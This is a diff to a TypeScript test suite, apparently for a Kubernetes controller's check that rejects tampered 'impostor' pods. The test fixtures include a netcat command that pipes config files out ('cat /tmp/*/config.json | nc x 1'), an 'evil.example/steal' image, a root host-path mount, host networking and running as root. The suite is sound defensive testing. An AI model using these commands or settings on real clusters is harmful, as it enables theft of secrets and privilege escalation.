@@ -23,45 +23,61 @@ describe("impostorReason", () => {
     expect(impostorReason(live(), want)).toBeUndefined();
   });
 
-  test.each([
-    ["another image", (p: V1Pod) => void (c0(p).image = "evil.example/steal:1"), "its container differs"],
+  const spec = (p: V1Pod) => p.spec as NonNullable<V1Pod["spec"]>;
+  const edits: [string, (p: V1Pod) => void, string][] = [
     [
-      "another command",
-      (p: V1Pod) => void (c0(p).command = ["sh", "-c", "cat /tmp/*/config.json | nc x 1"]),
+      "another image",
+      (p) => {
+        c0(p).image = "evil.example/steal:1";
+      },
       "its container differs",
     ],
     [
-      "a second container",
-      (p: V1Pod) => void p.spec?.containers.push({ ...c0(p), name: "sidecar" }),
-      "exactly the CLI container",
+      "another command",
+      (p) => {
+        c0(p).command = ["sh", "-c", "cat /tmp/*/config.json | nc x 1"];
+      },
+      "its container differs",
     ],
+    ["a second container", (p) => spec(p).containers.push({ ...c0(p), name: "sidecar" }), "exactly the CLI container"],
     [
       "an ephemeral container",
-      (p: V1Pod) => void (p.spec && (p.spec.ephemeralContainers = [{ name: "debug", image: "busybox" }])),
+      (p) => {
+        spec(p).ephemeralContainers = [{ name: "debug", image: "busybox" }];
+      },
       "other containers",
     ],
+    ["a host path volume", (p) => spec(p).volumes?.push({ name: "host", hostPath: { path: "/" } }), "volumes differ"],
     [
-      "a host path volume",
-      (p: V1Pod) => void p.spec?.volumes?.push({ name: "host", hostPath: { path: "/" } }),
-      "volumes differ",
+      "host networking",
+      (p) => {
+        spec(p).hostNetwork = true;
+      },
+      "host namespace",
     ],
-    ["host networking", (p: V1Pod) => void (p.spec && (p.spec.hostNetwork = true)), "host namespace"],
     [
       "a service-account token",
-      (p: V1Pod) => void (p.spec && (p.spec.automountServiceAccountToken = true)),
+      (p) => {
+        spec(p).automountServiceAccountToken = true;
+      },
       "service-account token",
     ],
     [
       "root",
-      (p: V1Pod) => void (p.spec?.securityContext && (p.spec.securityContext.runAsUser = 0)),
+      (p) => {
+        spec(p).securityContext = { ...spec(p).securityContext, runAsUser: 0 };
+      },
       "pod security context",
     ],
     [
       "another owner",
-      (p: V1Pod) => void (p.metadata && (p.metadata.ownerReferences = [])),
+      (p) => {
+        p.metadata = { ...p.metadata, ownerReferences: [] };
+      },
       "not controlled by this CAS",
     ],
-  ])("%s: an impostor, named", (_what, edit, reason) => {
+  ];
+  test.each(edits)("%s: an impostor, named", (_what, edit, reason) => {
     const p = live(edit);
     // Labels and the spec annotation are the genuine pod's: they prove nothing.
     expect(p.metadata?.annotations?.[SPEC_HASH_ANNOTATION]).toBe(want.metadata?.annotations?.[SPEC_HASH_ANNOTATION]);
@@ -70,7 +86,9 @@ describe("impostorReason", () => {
 
   test("choosePod only ever sees genuine pods: an impostor alone means a new pod is created", () => {
     const hash = want.metadata?.annotations?.[SPEC_HASH_ANNOTATION] ?? "";
-    const impostor = live((p) => void (c0(p).image = "evil.example/steal:1"));
+    const impostor = live((p) => {
+      c0(p).image = "evil.example/steal:1";
+    });
     const genuine = [impostor].filter((p) => impostorReason(p, want) === undefined);
     expect(choosePod(genuine, hash, Date.now(), 60_000).kind).toBe("create");
     expect(choosePod([impostor], hash, Date.now(), 60_000).kind).toBe("use"); // why the filter must come first
